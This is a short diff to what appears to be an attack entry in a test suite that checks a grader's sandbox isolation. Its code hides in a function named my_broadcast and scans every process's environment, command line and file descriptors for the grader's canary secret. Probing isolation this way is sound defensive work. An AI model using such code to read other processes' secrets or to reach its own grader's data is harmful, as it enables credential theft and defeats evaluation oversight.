@@ -1,6 +1,6 @@
 # attack: looks for secrets in environments, command lines and descriptors of all processes, its parent's too
 # points: 0
-# reason: found nothing
+# reason: found nothing|took longer than
 import os
 
 CANARY = b"canary" + b"-of-the-grader"
@@ -16,7 +16,7 @@ def my_broadcast(tensor, src):
                     raise SystemError("SUCCEEDED: read %s of process %s" % (name, pid))
             except OSError:
                 pass
-    for fd in range(3, 4096):
+    for fd in range(3, 256):
         for way in (lambda: os.pread(fd, 1 << 16, 0), lambda: open("/proc/self/fd/%d" % fd, "rb").read(1 << 16)):
             try:
                 if CANARY in way():
